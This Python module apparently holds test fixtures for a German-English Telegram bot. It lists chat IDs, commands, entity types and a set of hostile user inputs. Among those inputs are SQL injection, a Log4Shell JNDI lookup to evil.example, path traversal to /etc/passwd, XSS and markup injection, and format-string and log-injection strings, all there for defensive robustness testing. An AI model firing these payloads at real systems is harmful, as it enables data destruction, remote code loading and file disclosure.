"""Who and what the updates are about, and what people write who mean no good."""

import time
from collections.abc import Mapping
from typing import Final

STRAY: Final = "\ue000"
"""Stands for half a surrogate pair, which is no valid text: see `on_the_wire`."""
NOW: Final = int(time.time())
EDITOR: Final = 11
PEOPLE: Final = (EDITOR, *range(12, 18))
GROUPS: Final = tuple(range(-105, -100))
SUPERGROUPS: Final = tuple(range(-1_000_000_000_206, -1_000_000_000_200))
CHANNELS: Final = (-1_000_000_000_301, -1_000_000_000_302)
STRANGE: Final = (0, 1, -1, 2**31, -(2**31), 2**52 - 1, -(2**52) + 1)
"""Telegram promises no more than 52 bits."""
TITLES: Final = (
    *("Redaktion", "<b>Gruppe</b>", "</a><a href='https://evil.example'>"),
    *("Zeile\nZeile", "@evil", "\u202eatad"),
)

INVISIBLE: Final = ("", " ", "\0", "\n\n", "\u200b\u200d\u2060", "\u2028\u2029\x85", "\ufffe\uffff", "\x1b[31mrot")
WRITTEN_OTHERWISE: Final = (
    *("\u202eNATO\u202d", "א" * 300, "ﷺ" * 1000, "a\u0301" * 500, "🇩🇪👩‍👩‍👧‍👦" * 30, "\U0001d54e😀" * 9),
    *(STRAY, f"wann {STRAY}?"),
)
MARKUP: Final = (
    *(
        "<b>",
        "</b></i>",
        "<a href='https://evil.example'>x</a>",
        "&lt;&#0;&amp",
        "<script>alert(1)</script>",
        "<" * 4096,
    ),
    *("@BelegBot", "@evil https://evil.example", "tg://user?id=13"),
)
OTHER_LANGUAGES: Final = (
    *("'; DROP TABLE chats; --", "%s%n{0}{x}", "${jndi:ldap://evil.example}", "../../etc/passwd"),
    *('\r\n{"level":"error"}', "null", "{}", "-1", "1e999", "9" * 4000),
)
LONG: Final = ("x" * 4096, "wer " * 1024, "?" * 4096)
HOSTILE: Final = INVISIBLE + WRITTEN_OTHERWISE + MARKUP + OTHER_LANGUAGES + LONG
COMMANDS: Final = (
    *("start", "hilfe", "help", "themen", "topics", "termine", "schedule", "quelle", "source", "frage", "ask"),
    *("abo", "subscribe", "einstellungen", "settings", "status", "sprache", "language", "datenschutz", "privacy"),
    *("meldung", "publish", "unbekannt"),
)
DRAFT: Final = "\n".join(
    (
        "id: x",
        "meeting: beckenfest",
        "kind: agenda",
        "text:",
        "  de: Das Beckenfest beginnt früher.",
        "sources: []",
        "attribution: {de: Stadt, en: City}",
    )
)
ENTITY_TYPES: Final = (
    *("mention", "text_mention", "bot_command", "hashtag", "cashtag", "url", "text_link", "email", "phone_number"),
    *("bold", "italic", "underline", "strikethrough", "spoiler", "blockquote", "expandable_blockquote", "code", "pre"),
    *("custom_emoji", "date_time"),
)
WORDS: Final[Mapping[tuple[str, str], tuple[str, ...]]] = {
    ("MessageEntity", "type"): ENTITY_TYPES,
    ("Chat", "type"): ("private", "group", "supergroup", "channel"),
    ("InlineQuery", "chat_type"): ("sender", "private", "group", "supergroup", "channel"),
    ("Poll", "type"): ("regular", "quiz"),
    ("Sticker", "type"): ("regular", "mask", "custom_emoji"),
    ("User", "language_code"): ("de", "de-AT", "en", "uk", "xx", ""),
    ("User", "username"): ("anna", "ben_b", "BelegBot"),
    ("Document", "file_name"): ("meldung.yaml", "x.yml", "../../x.yaml", "bild.png", "\n.yaml"),
}
"""What only the prose of the description enumerates, and what makes the bot listen."""
CHOSEN: Final = (
    *("", "de", "en", "auto", "22x7", "off", "22", "7", "99", "x", "1", "0"),
    *("agenda", "brief", "open", "notices"),
)
"""What buttons of the settings choose, or might."""
